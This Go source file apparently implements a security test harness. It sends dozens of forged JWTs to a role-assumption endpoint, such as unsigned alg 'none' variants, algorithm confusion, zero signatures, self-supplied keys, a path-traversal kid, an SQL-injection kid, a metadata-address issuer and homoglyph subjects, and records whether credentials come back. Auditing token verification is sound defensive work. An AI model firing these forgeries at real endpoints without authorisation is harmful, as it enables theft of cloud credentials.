package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"time"
)

// exchange asks for a session with a token.
func (g *good) exchange(ctx context.Context, token string) (Verdict, string, reply) {
	return g.query(ctx, g.form(token))
}

// form is the request of a job.
func (g *good) form(token string) url.Values {
	return url.Values{"Action": {"AssumeRoleWithWebIdentity"}, "Version": {"2011-06-15"}, "RoleArn": {g.Role}, "RoleSessionName": {"attack"}, "DurationSeconds": {"900"}, "WebIdentityToken": {token}}
}

func (g *good) query(ctx context.Context, form url.Values) (Verdict, string, reply) {
	return g.post(ctx, form.Encode())
}

func (g *good) post(ctx context.Context, body string) (Verdict, string, reply) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, g.Endpoint, strings.NewReader(body))
	if err != nil {
		return Broken, clip(err.Error()), reply{}
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return send(g.HTTP, req, givesCredentials)
}

func givesCredentials(r reply) bool { return element(r.body, "SecretAccessKey") != "" }

// bent is a token that is bent in one place.
type bent struct {
	id, what, class string
	make            func(g *good, f *forge) string
}

func tokenAttempts() []attempt {
	return forgeries("token/", func(ctx context.Context, g *good, token string) (Verdict, string, reply) {
		return g.exchange(ctx, token)
	})
}

// forgeries are all bent tokens, shown at one door.
func forgeries(group string, show func(ctx context.Context, g *good, token string) (Verdict, string, reply)) []attempt {
	var out []attempt
	for _, b := range slices.Concat(signatureForgeries(), headerForgeries(), encodingForgeries(), timeForgeries(), claimForgeries()) {
		out = append(out, attempt{group + b.id, b.what, b.class, func(ctx context.Context, g *good) (Verdict, string) {
			verdict, answer, _ := show(ctx, g, b.make(g, g.forge()))
			return verdict, answer
		}})
	}
	return out
}

// header bends the header, and the token is signed as it then is.
func header(id, what, class string, set func(g *good, f *forge)) bent {
	return bent{id, what, class, func(g *good, f *forge) string { set(g, f); return f.token() }}
}

// claim gives a claim another value; nil takes it out.
func claim(id, what, class, name string, value func(f *forge) any) bent {
	return bent{id, what, class, func(_ *good, f *forge) string {
		if v := value(f); v != nil {
			f.claims[name] = v
		} else {
			delete(f.claims, name)
		}
		return f.token()
	}}
}

func value(v any) func(*forge) any { return func(*forge) any { return v } }

const (
	classJWT       = "RFC 8725, classic JWT attacks"
	classAlg       = "CVE-2015-9235, CVE-2026-33322: algorithm confusion"
	classKeys      = "RFC 8725 §3.10: the token names its own key"
	classNeighbour = "neighbouring project or ref"
)

func signatureForgeries() []bent {
	out := []bent{
		{"signature-none", "no signature, alg as it was", classJWT, func(_ *good, f *forge) string { h, p, _ := f.parts(); return h + "." + p + "." }},
		{"signature-other-key", "signed by a key nobody trusts, under the trusted kid", classJWT, func(_ *good, f *forge) string { f.key = newKey(f.key); return f.token() }},
		{"signature-other-payload", "the signature of another token", classJWT, func(g *good, f *forge) string {
			_, _, s := f.parts()
			f.claims["sub"] = f.text("sub") + "x"
			h, p, _ := f.parts()
			return h + "." + p + "." + s
		}},
		{"signature-first-bit", "one bit of the signature's first byte changed", classJWT, flip(0)},
		{"signature-last-bit", "one bit of the signature's last byte changed", classJWT, flip(-1)},
		{"signature-short", "the signature without its last byte", classJWT, resize(func(s []byte) []byte { return s[:len(s)-1] })},
		{"signature-long", "the signature with a byte more", classJWT, resize(func(s []byte) []byte { return append(s, 0) })},
		{"signature-zero", "a signature of zeros (CVE-2022-21449)", "CVE-2022-21449: psychic signatures", resize(func(s []byte) []byte { return make([]byte, len(s)) })},
		{"signature-payload-bit", "one bit of the payload changed after signing", classJWT, func(_ *good, f *forge) string {
			h, p, s := f.parts()
			data, _ := base64.RawURLEncoding.DecodeString(p)
			data[len(data)/2] ^= 1
			return h + "." + b64(string(data)) + "." + s
		}},
	}
	for _, a := range [][2]string{{"none", "none"}, {"none-title", "None"}, {"none-upper", "NONE"}, {"none-mixed", "nOnE"}, {"empty", ""}} {
		id, alg := a[0], a[1]
		out = append(out, bent{"alg-" + id, "unsigned, alg " + fmt.Sprintf("%q", alg), classJWT, func(_ *good, f *forge) string {
			f.header["alg"] = alg
			return b64(object(f.header)) + "." + b64(object(f.claims)) + "."
		}})
		out = append(out, bent{"alg-" + id + "-signed", "alg " + fmt.Sprintf("%q", alg) + " with a good signature behind", classJWT, func(_ *good, f *forge) string {
			f.header["alg"] = alg
			return f.token()
		}})
	}
	for _, form := range []string{"der", "pem", "jwk", "raw"} {
		out = append(out, bent{"alg-hs256-" + form, "HS256 with the public key's " + form + " as the secret", classAlg, func(_ *good, f *forge) string { return f.hmac(publicForms(f.key)[form]) }})
	}
	return append(out,
		bent{"alg-hs256-empty", "HS256 with an empty secret", classAlg, func(_ *good, f *forge) string { return f.hmac(nil) }},
		bent{"alg-hs256-audience", "HS256 with the client id as the secret and as kid", classAlg, func(_ *good, f *forge) string {
			f.header["kid"] = f.text("aud")
			return f.hmac([]byte(f.text("aud")))
		}},
		bent{"alg-lower-case", "the algorithm in lower case", classJWT, func(_ *good, f *forge) string {
			f.header["alg"] = strings.ToLower(fmt.Sprint(f.header["alg"])) + " "
			return f.token()
		}},
		bent{"alg-missing", "a header that names no algorithm", classJWT, func(_ *good, f *forge) string { delete(f.header, "alg"); return f.token() }},
		bent{"alg-other-family", "the algorithm of another kind of key", classAlg, func(_ *good, f *forge) string {
			f.header["alg"] = map[string]string{"RS256": "PS256", "ES256": "EdDSA", "EdDSA": "ES256"}[fmt.Sprint(f.header["alg"])]
			return f.token()
		}},
	)
}

func flip(at int) func(*good, *forge) string {
	return resize(func(s []byte) []byte {
		if at < 0 {
			s[len(s)+at] ^= 1
		} else {
			s[at] ^= 0x80
		}
		return s
	})
}

func resize(change func([]byte) []byte) func(*good, *forge) string {
	return func(_ *good, f *forge) string {
		h, p, s := f.parts()
		data, _ := base64.RawURLEncoding.DecodeString(s)
		return h + "." + p + "." + b64(string(change(data)))
	}
}

func headerForgeries() []bent {
	// A token signed by a key that it brings along itself.
	own := func(set func(f *forge)) func(g *good, f *forge) {
		return func(_ *good, f *forge) { f.key = newKey(f.key); set(f) }
	}
	return []bent{
		header("header-jwk", "signed by the key in its own header", classKeys, own(func(f *forge) { f.header["jwk"] = jwk(f.key) })),
		header("header-jwk-no-kid", "the same without a kid", classKeys, own(func(f *forge) { f.header["jwk"] = jwk(f.key); delete(f.header, "kid") })),
		header("header-jku", "its header names the address of a key set", classKeys, own(func(f *forge) { f.header["jku"] = "https://keys.invalid/jwks.json" })),
		header("header-x5u", "its header names the address of a certificate", classKeys, own(func(f *forge) { f.header["x5u"] = "https://keys.invalid/cert.pem" })),
		header("header-x5c", "its header brings a certificate", classKeys, own(func(f *forge) { f.header["x5c"] = []string{"MIIB"} })),
		header("header-crit", "a critical extension nobody knows", "RFC 7515 §4.1.11", func(_ *good, f *forge) { f.header["crit"], f.header["x-none"] = []string{"x-none"}, true }),
		header("header-b64", "an unencoded payload", "RFC 7797", func(_ *good, f *forge) { f.header["crit"], f.header["b64"] = []string{"b64"}, false }),
		header("header-typ-access-token", "an access token of the same issuer", "RFC 8725 §3.11", func(_ *good, f *forge) { f.header["typ"] = "at+jwt" }),
		header("header-typ-logout-token", "a logout token of the same issuer", "RFC 8725 §3.11", func(_ *good, f *forge) { f.header["typ"] = "logout+jwt" }),
		header("header-enc", "a header of encryption", "CVE-2025-27144", func(_ *good, f *forge) { f.header["enc"], f.header["alg"] = "A128GCM", "RSA-OAEP" }),
		header("kid-unknown", "a kid the issuer does not publish", classJWT, func(_ *good, f *forge) { f.header["kid"] = "no-such-key" }),
		header("kid-path", "a kid that is a path", classJWT, own(func(f *forge) { f.header["kid"] = "../../../../dev/null" })),
		header("kid-sql", "a kid that is SQL", classJWT, own(func(f *forge) { f.header["kid"] = "' UNION SELECT 'key" })),
		header("kid-list", "a kid that is a list", classJWT, func(g *good, f *forge) { f.header["kid"] = []string{g.KeyID} }),
		bent{"header-alg-twice", "alg twice, the second none", classJWT, func(_ *good, f *forge) string {
			return f.raw(strings.TrimSuffix(object(f.header), "}")+`,"alg":"none"}`, object(f.claims))
		}},
		bent{"header-alg-case", "Alg beside alg", classJWT, func(_ *good, f *forge) string {
			return f.raw(strings.TrimSuffix(object(f.header), "}")+`,"Alg":"none"}`, object(f.claims))
		}},
	}
}

func encodingForgeries() []bent {
	whole := func(change func(h, p, s string) string) func(*good, *forge) string {
		return func(_ *good, f *forge) string { return change(f.parts()) }
	}
	payload := func(change func(payload string) string) func(*good, *forge) string {
		return func(_ *good, f *forge) string { return f.raw(object(f.header), change(object(f.claims))) }
	}
	return []bent{
		{"empty", "an empty token", classJWT, whole(func(string, string, string) string { return "" })},
		{"four-parts", "a token of four parts", classJWT, whole(func(h, p, s string) string { return h + "." + p + "." + s + "." + s })},
		{"two-parts", "a token of two parts", classJWT, whole(func(h, p, _ string) string { return h + "." + p })},
		{"five-parts", "an encrypted token", classJWT, whole(func(h, p, s string) string { return h + ".." + p + "." + s + "." + s })},
		{"json", "the JSON serialisation", classJWT, whole(func(h, p, s string) string {
			return object(map[string]string{"protected": h, "payload": p, "signature": s})
		})},
		{"padding", "base64 with padding", "one token, several texts", whole(func(h, p, s string) string { return h + "." + p + "." + s + "=" })},
		{"standard-alphabet", "the signature in the standard base64 alphabet", "one token, several texts", func(_ *good, f *forge) string {
			for { // until it differs
				h, p, s := f.parts()
				if other := strings.NewReplacer("-", "+", "_", "/").Replace(s); other != s {
					return h + "." + p + "." + other
				}
				f.claims["jti"] = fmt.Sprint(f.claims["jti"], "x")
			}
		}},
		{"line-break", "a line break inside the signature", "one token, several texts", whole(func(h, p, s string) string { return h + "." + p + "." + s[:8] + "\n" + s[8:] })},
		{"leading-space", "a space before the token", "one token, several texts", whole(func(h, p, s string) string { return " " + h + "." + p + "." + s })},
		{"nul", "a NUL behind the token", "one token, several texts", whole(func(h, p, s string) string { return h + "." + p + "." + s + "\x00" })},
		{"bearer", "Bearer before the token", "one token, several texts", whole(func(h, p, s string) string { return "Bearer " + h + "." + p + "." + s })},
		{"long", "a token of 20 001 characters", "CVE-2025-30204: size", func(_ *good, f *forge) string { f.claims["filler"] = strings.Repeat("a", 16000); return f.token() }},
		{"dots", "ten thousand dots", "CVE-2025-30204: size", whole(func(string, string, string) string { return strings.Repeat(".", 10000) })},
		{"payload-array", "a payload that is a list", classJWT, payload(func(p string) string { return "[" + p + "]" })},
		{"payload-trailing", "text behind the payload's object", classJWT, payload(func(p string) string { return p + p })},
		{"payload-bom", "a byte order mark before the payload", classJWT, payload(func(p string) string { return "\ufeff" + p })},
		{"payload-deep", "a payload nested a thousand deep", "size", payload(func(p string) string {
			return strings.TrimSuffix(p, "}") + `,"x":` + strings.Repeat("[", 1000) + strings.Repeat("]", 1000) + "}"
		})},
		{"payload-broken-utf8", "a claim that is not UTF-8", classJWT, payload(func(p string) string { return strings.TrimSuffix(p, "}") + ",\"x\":\"\xff\xfe\"}" })},
		{"payload-lone-surrogate", "a claim with half a character", classJWT, payload(func(p string) string { return strings.TrimSuffix(p, "}") + `,"x":"\ud800"}` })},
		{"claims-many", "a payload of a thousand claims", "size", payload(func(p string) string {
			var b strings.Builder
			b.WriteString(strings.TrimSuffix(p, "}"))
			for i := range 1000 {
				fmt.Fprintf(&b, `,"c%d":1`, i)
			}
			return b.String() + "}"
		})},
	}
}

func timeForgeries() []bent {
	at := func(id, what, name string, d time.Duration) bent {
		return bent{id, what, "time", func(g *good, f *forge) string { return f.at(g, name, d).token() }}
	}
	return []bent{
		{"exp-past", "expired ten minutes ago", "time", func(g *good, f *forge) string {
			return f.at(g, "iat", -time.Hour).at(g, "nbf", -time.Hour).at(g, "exp", -10*time.Minute).token()
		}},
		{"iat-future", "issued in ten minutes", "time", func(g *good, f *forge) string {
			return f.at(g, "iat", 10*time.Minute).at(g, "exp", 20*time.Minute).token()
		}},
		at("nbf-future", "valid in ten minutes", "nbf", 10*time.Minute),
		claim("exp-missing", "no exp", "jwx: missing exp accepted", "exp", value(nil)),
		claim("iat-missing", "no iat", "missing claim", "iat", value(nil)),
		claim("exp-text", "exp as a string", classJWT, "exp", func(f *forge) any { return fmt.Sprint(f.claims["exp"]) }),
		claim("exp-list", "exp as a list", classJWT, "exp", func(f *forge) any { return []any{f.claims["exp"]} }),
		claim("exp-huge", "exp beyond every clock", classJWT, "exp", value(1e300)),
		claim("exp-negative", "exp before 1970", classJWT, "exp", value(-1)),
		claim("exp-null", "exp null", classJWT, "exp", func(*forge) any { return (*int)(nil) }),
		{"exp-twice", "exp twice, the first past", "two readers of one document", func(g *good, f *forge) string {
			return f.raw(object(f.header), fmt.Sprintf(`{"exp":%d,%s`, g.Now().Add(-time.Hour).Unix(), strings.TrimPrefix(object(f.claims), "{")))
		}},
	}
}

func claimForgeries() []bent {
	sub := func(id, what string, change func(sub string) string) bent {
		return bent{"sub-" + id, what, classNeighbour, func(_ *good, f *forge) string { f.setSubject(change(f.text("sub"))); return f.token() }}
	}
	iss := func(id, what string, change func(iss string) string) bent {
		return claim("iss-"+id, what, "CVE-2025-52477, CVE-2026-22772: issuers", "iss", func(f *forge) any { return change(f.text("iss")) })
	}
	twice := func(name string) bent {
		return bent{name + "-twice", name + " twice, the second the good one", "two readers of one document", func(_ *good, f *forge) string {
			return f.raw(object(f.header), `{"`+name+`":"evil",`+strings.TrimPrefix(object(f.claims), "{"))
		}}
	}
	return []bent{
		claim("iss-missing", "no iss", "missing claim", "iss", value(nil)),
		claim("iss-list", "iss as a list", "wrong type", "iss", func(f *forge) any { return []string{f.text("iss")} }),
		iss("slash", "a slash behind the issuer", func(s string) string { return s + "/" }),
		iss("upper-case", "the issuer in upper case", strings.ToUpper),
		iss("http", "the issuer over http", func(s string) string { return strings.Replace(s, "https://", "http://", 1) }),
		iss("suffix", "a host that begins with the issuer's", func(s string) string { return s + ".evil.invalid" }),
		iss("user", "the issuer as the user of another host", func(s string) string { return s + "@evil.invalid" }),
		iss("metadata", "the cloud's metadata address as issuer", func(string) string { return "http://169.254.169.254/latest/meta-data" }),
		iss("loopback", "loopback as issuer", func(string) string { return "https://127.0.0.1:1" }),
		iss("nul", "a NUL behind the issuer", func(s string) string { return s + "\x00" }),
		twice("iss"),

		claim("aud-missing", "no aud", "CVE-2024-5798: no audience", "aud", value(nil)),
		claim("aud-other", "another audience", "CVE-2024-5798: no audience", "aud", value("https://vault.invalid")),
		claim("aud-empty", "an empty audience", "CVE-2024-5798: no audience", "aud", value("")),
		claim("aud-empty-list", "an empty list of audiences", "CVE-2024-5798: no audience", "aud", value([]string{})),
		claim("aud-object", "an object as audience", "wrong type", "aud", func(f *forge) any { return map[string]string{f.text("aud"): f.text("aud")} }),
		claim("aud-star", "a wildcard as audience", "CVE-2024-5798: no audience", "aud", value("*")),
		claim("aud-suffix", "an audience that begins with the good one", "CVE-2024-5798: no audience", "aud", func(f *forge) any { return f.text("aud") + ".evil" }),
		claim("aud-upper-case", "the audience in another case", "CVE-2024-5798: no audience", "aud", func(f *forge) any { return swapCase(f.text("aud")) }),
		twice("aud"),

		claim("sub-missing", "no sub", "missing claim", "sub", value(nil)),
		claim("sub-empty", "an empty sub", "missing claim", "sub", value("")),
		claim("sub-list", "sub as a list", "wrong type", "sub", func(f *forge) any { return []string{f.text("sub")} }),
		claim("sub-number", "sub as a number", "wrong type", "sub", value(1)),
		claim("sub-null", "sub null", "wrong type", "sub", func(*forge) any { return (*int)(nil) }),
		sub("suffix", "a longer ref", func(s string) string { return s + "x" }),
		sub("shorter", "a shorter ref", func(s string) string { return s[:len(s)-1] }),
		sub("path", "a ref below the good one", func(s string) string { return s + "/x" }),
		sub("prefix", "text before the subject", func(s string) string { return "x" + s }),
		sub("other-case", "the subject in another case", swapCase),
		sub("other-case-project", "the project in another case", swapValue("project_path:")),
		sub("other-case-ref", "the ref in another case", swapValue(":ref:")),
		claim("sub-disagrees", "a subject that the other claims do not repeat", classNeighbour, "sub", func(f *forge) any { return f.text("sub") + "-2" }),
		sub("tag", "a tag of the branch's name", func(s string) string { return replaced(s, "ref_type:branch", "ref_type:tag") }),
		sub("longer-project", "a project with a longer name", func(s string) string { return replaced(s, ":ref_type:", "-evil:ref_type:") }),
		sub("no-ref", "the subject without its ref", func(s string) string { return strings.SplitN(s+":ref_type", ":ref_type", 2)[0] + ":" }),
		sub("star", "a subject of wildcards", func(string) string { return "project_path:*:ref_type:*:ref:*" }),
		sub("space", "a space behind the subject", func(s string) string { return s + " " }),
		sub("line-break", "a line break behind the subject", func(s string) string { return s + "\n" }),
		sub("nul", "a NUL and more behind the subject", func(s string) string { return s + "\x00evil" }),
		sub("look-alike", "a letter of another alphabet", func(s string) string {
			at := strings.LastIndexAny(s, "aeo")
			if at < 0 {
				return s + "\u0430"
			}
			return s[:at] + map[byte]string{'a': "\u0430", 'e': "\u0435", 'o': "\u043e"}[s[at]] + s[at+1:]
		}),
		sub("wide", "a full-width letter", func(s string) string { return s[:len(s)-1] + string(rune(s[len(s)-1])+0xfee0) }),
		sub("zero-width", "an invisible character", func(s string) string { return s[:len(s)-1] + "\u200b" + s[len(s)-1:] }),
		twice("sub"),
		bent{"sub-case-twin", "Sub beside sub", "two readers of one document", func(_ *good, f *forge) string { f.claims["Sub"] = "evil"; return f.token() }},
		bent{"sub-in-other-claim", "the good subject in another claim", "CVE-2025-3879: a field that repeats a claim", func(_ *good, f *forge) string {
			f.claims["subject"], f.claims["sub"] = f.claims["sub"], "evil"
			return f.token()
		}},
	}
}

// replaced replaces text; where there is none to replace, it makes the subject
// another one all the same.
func replaced(s, old, new string) string {
	if out := strings.Replace(s, old, new, 1); out != s {
		return out
	}
	return s + new
}

// swapValue swaps the case of the value behind a name of the subject.
func swapValue(name string) func(string) string {
	return func(s string) string {
		at := strings.Index(s, name)
		if at < 0 {
			return swapCase(s)
		}
		value := s[at+len(name):]
		if end := strings.IndexByte(value, ':'); end >= 0 {
			value = value[:end]
		}
		return strings.Replace(s, name+value, name+swapCase(value), 1)
	}
}

func swapCase(s string) string {
	return strings.Map(func(c rune) rune {
		switch {
		case 'a' <= c && c <= 'z':
			return c - 'a' + 'A'
		case 'A' <= c && c <= 'Z':
			return c - 'A' + 'a'
		}
		return c
	}, s)
}
